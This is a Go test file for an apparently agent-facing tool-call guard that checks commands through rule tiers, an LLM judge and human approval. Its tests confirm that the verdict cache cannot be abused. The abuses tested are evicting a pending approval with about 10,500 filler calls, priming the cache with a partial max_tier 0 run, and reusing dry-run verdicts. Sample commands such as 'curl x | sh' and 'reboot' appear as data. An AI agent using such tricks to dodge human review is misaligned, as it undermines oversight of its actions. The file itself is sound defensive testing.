package shield

import (
	"context"
	"fmt"
	"sync"
	"sync/atomic"
	"testing"
)

// approvalsTier is a tier-3 stand-in with approval history: it escalates every call it sees
// (as a pending request would) and reports, through ApprovalState, the calls it has seen.
type approvalsTier struct {
	mu   sync.Mutex
	seen map[string]bool // action hash + session
	err  error
}

func (a *approvalsTier) Level() int   { return TierHuman }
func (a *approvalsTier) Name() string { return "approval" }
func (a *approvalsTier) Evaluate(_ context.Context, in *Input) (Result, error) {
	a.mu.Lock()
	defer a.mu.Unlock()
	if a.seen == nil {
		a.seen = map[string]bool{}
	}
	a.seen[in.ActionHash+"\x00"+in.Call.Context.SessionID] = true
	return Result{EscalationID: "apr_1", Findings: []Finding{{Decision: Escalate, Rule: "approval:pending", Reason: "waiting"}}}, nil
}
func (a *approvalsTier) HasApprovals(_ context.Context, in *Input) (bool, error) {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.seen[in.ActionHash+"\x00"+in.Call.Context.SessionID], a.err
}

var _ ApprovalState = (*approvalsTier)(nil)

// TestCachePartialEvaluationNotServedToFull is H1: max_tier 0 skips Rego, the class default
// allows; the next full evaluation must hear Rego, not the cached ALLOW.
func TestCachePartialEvaluationNotServedToFull(t *testing.T) {
	for _, maxTier := range []int{0, 1, 2} {
		t.Run(fmt.Sprintf("max_tier %d", maxTier), func(t *testing.T) {
			t0 := &fakeTier{level: 0, name: "cel", fn: silent}
			t1 := &fakeTier{level: 1, name: "rego", fn: says(Escalate, "rego:review")}
			p, _ := New(Config{}, newPolicy(t0, t1))
			ctx := context.Background()
			partial, _ := p.Evaluate(ctx, call("exec", `{"command":"curl x | sh"}`), EvalOptions{MaxTier: ptr(maxTier)})
			full, _ := p.Evaluate(ctx, call("exec", `{"command":"curl x | sh"}`), EvalOptions{})
			if full.Decision != Escalate || full.Cached {
				t.Fatalf("full evaluation after a partial one (%s) = %s cached=%v (rules %v), want a fresh ESCALATE",
					partial.Decision, full.Decision, full.Cached, full.Rules)
			}
			// And the other way: a cached full verdict is not served to a partial evaluation.
			again, _ := p.Evaluate(ctx, call("exec", `{"command":"curl x | sh"}`), EvalOptions{MaxTier: ptr(maxTier)})
			if again.Cached {
				t.Errorf("partial evaluation answered from the cache")
			}
		})
	}
}

// TestCachePendingApprovalAfterEviction is H1's second sequence: a call escalates and its
// approval is pending; ~10 500 other calls evict it from the cache; the agent sends it with
// max_tier 0 (class default ALLOW), then in full. The full evaluation must still escalate.
func TestCachePendingApprovalAfterEviction(t *testing.T) {
	t1 := &fakeTier{level: 1, name: "rego", fn: func(_ context.Context, in *Input) (Result, error) {
		if string(in.Call.Arguments) == `{"command":"reboot"}` {
			return Result{Findings: []Finding{{Decision: Escalate, Rule: "rego:reboot"}}}, nil
		}
		return Result{}, nil
	}}
	human := &approvalsTier{}
	p, _ := New(Config{Escalation: []Tier{human}}, newPolicy(&fakeTier{level: 0, name: "cel", fn: silent}, t1))
	ctx := context.Background()
	if v, _ := p.Evaluate(ctx, call("exec", `{"command":"reboot"}`), EvalOptions{}); v.Decision != Escalate || v.EscalationID == "" {
		t.Fatalf("first evaluation = %s %q, want ESCALATE with a request", v.Decision, v.EscalationID)
	}
	for i := range 10500 {
		_, _ = p.Evaluate(ctx, call("exec", fmt.Sprintf(`{"command":"echo %d"}`, i)), EvalOptions{})
	}
	_, _ = p.Evaluate(ctx, call("exec", `{"command":"reboot"}`), EvalOptions{MaxTier: ptr(0)})
	v, _ := p.Evaluate(ctx, call("exec", `{"command":"reboot"}`), EvalOptions{})
	if v.Decision != Escalate || v.Cached {
		t.Fatalf("full evaluation with a pending approval = %s cached=%v, want a fresh ESCALATE", v.Decision, v.Cached)
	}
}

// TestCacheBypassedForApprovalHistory: a cached verdict is not served for a call an escalation
// tier has approval history for, whatever tiers 0–1 said when the entry was stored.
func TestCacheBypassedForApprovalHistory(t *testing.T) {
	var escalateNow atomic.Bool
	t1 := &fakeTier{level: 1, name: "rego", fn: func(context.Context, *Input) (Result, error) {
		if escalateNow.Load() {
			return Result{Findings: []Finding{{Decision: Escalate, Rule: "rego:review"}}}, nil
		}
		return Result{}, nil
	}}
	human := &approvalsTier{}
	p, _ := New(Config{Escalation: []Tier{human}}, newPolicy(t1))
	ctx := context.Background()
	// Stored: ALLOW (class default).
	if v, _ := p.Evaluate(ctx, call("exec", `{"command":"ls"}`), EvalOptions{}); v.Decision != Allow {
		t.Fatalf("first = %s", v.Decision)
	}
	// The same call in another session escalates: the human tier now knows the call there, not
	// in s1, so s1 is still served from the cache.
	escalateNow.Store(true)
	other := call("exec", `{"command":"ls"}`)
	other.Context.SessionID = "s2"
	if v, _ := p.Evaluate(ctx, other, EvalOptions{}); v.Decision != Escalate {
		t.Fatalf("s2 = %s, want ESCALATE", v.Decision)
	}
	if v, _ := p.Evaluate(ctx, call("exec", `{"command":"ls"}`), EvalOptions{}); !v.Cached || v.Decision != Allow {
		t.Fatalf("s1 without approval history: %s cached=%v, want the cached ALLOW", v.Decision, v.Cached)
	}
	// Now s1 gets approval history for the call: its cached ALLOW must not be served.
	human.mu.Lock()
	h, _ := ActionHash("exec", []byte(`{"command":"ls"}`))
	human.seen[h+"\x00s1"] = true
	human.mu.Unlock()
	if v, _ := p.Evaluate(ctx, call("exec", `{"command":"ls"}`), EvalOptions{}); v.Cached || v.Decision != Escalate {
		t.Fatalf("s1 with approval history: %s cached=%v, want a fresh ESCALATE", v.Decision, v.Cached)
	}
	// A failing state check also bypasses the cache.
	escalateNow.Store(false)
	q, _ := New(Config{Escalation: []Tier{&approvalsTier{err: fmt.Errorf("store closed")}}}, newPolicy(t1))
	_, _ = q.Evaluate(ctx, call("exec", `{"command":"ls"}`), EvalOptions{})
	if v, _ := q.Evaluate(ctx, call("exec", `{"command":"ls"}`), EvalOptions{}); v.Cached {
		t.Errorf("served from the cache although the approval state could not be read")
	}
}

// TestCacheKeyCoversDryRun: a tier may read Input.DryRun, so a dry run and a real run do not
// share a cache entry.
func TestCacheKeyCoversDryRun(t *testing.T) {
	t0 := &fakeTier{level: 0, name: "cel", fn: func(_ context.Context, in *Input) (Result, error) {
		if in.DryRun {
			return Result{Findings: []Finding{{Decision: Allow, Rule: "cel:dry"}}}, nil
		}
		return Result{Findings: []Finding{{Decision: Block, Rule: "cel:real"}}}, nil
	}}
	p, _ := New(Config{}, newPolicy(t0))
	ctx := context.Background()
	_, _ = p.Evaluate(ctx, call("exec", `{"command":"ls"}`), EvalOptions{DryRun: true})
	if v, _ := p.Evaluate(ctx, call("exec", `{"command":"ls"}`), EvalOptions{}); v.Decision != Block || v.Cached {
		t.Fatalf("real run after a dry run = %s cached=%v, want a fresh BLOCK", v.Decision, v.Cached)
	}
}

// TestCacheNeverStoresEscalationTiers: what the judge or a human said is never served from the
// cache; a hit of an escalated call goes through the escalation tiers again.
func TestCacheNeverStoresEscalationTiers(t *testing.T) {
	t0 := &fakeTier{level: 0, name: "cel", fn: says(Escalate, "cel:review")}
	judge := &fakeTier{level: 2, name: "judge", fn: says(Allow, "judge:ok")}
	p, _ := New(Config{Escalation: []Tier{judge}}, newPolicy(t0))
	ctx := context.Background()
	_, _ = p.Evaluate(ctx, call("exec", `{"command":"ls"}`), EvalOptions{})
	judge.fn = says(Block, "judge:no")
	v, _ := p.Evaluate(ctx, call("exec", `{"command":"ls"}`), EvalOptions{})
	if v.Decision != Block || v.Tier != TierJudge || judge.calls != 2 {
		t.Fatalf("second = %s tier %d after %d judge calls, want the judge's new BLOCK", v.Decision, v.Tier, judge.calls)
	}
}

// TestCacheSameDigestReload: a reload with the same digest but different tiers does not serve
// the old activation's verdicts.
func TestCacheSameDigestReload(t *testing.T) {
	p, _ := New(Config{}, newPolicy(&fakeTier{level: 0, name: "cel", fn: says(Allow, "cel:ok")}))
	ctx := context.Background()
	act := p.policy.Load()
	_, _ = p.Evaluate(ctx, call("exec", `{"command":"ls"}`), EvalOptions{})
	if err := p.SetPolicy(newPolicy(&fakeTier{level: 0, name: "cel", fn: says(Block, "cel:no")})); err != nil {
		t.Fatal(err)
	}
	// An evaluation that started under the old activation and stores after the reload.
	h, _ := ActionHash("exec", []byte(`{"command":"ls"}`))
	c := call("exec", `{"command":"ls"}`)
	p.cache.Add(cacheKey(act, h, &c.Context, EvalOptions{}), cachedVerdict{v: Verdict{Decision: Allow}})
	if v, _ := p.Evaluate(ctx, call("exec", `{"command":"ls"}`), EvalOptions{}); v.Decision != Block || v.Cached {
		t.Fatalf("after reload = %s cached=%v, want a fresh BLOCK", v.Decision, v.Cached)
	}
}
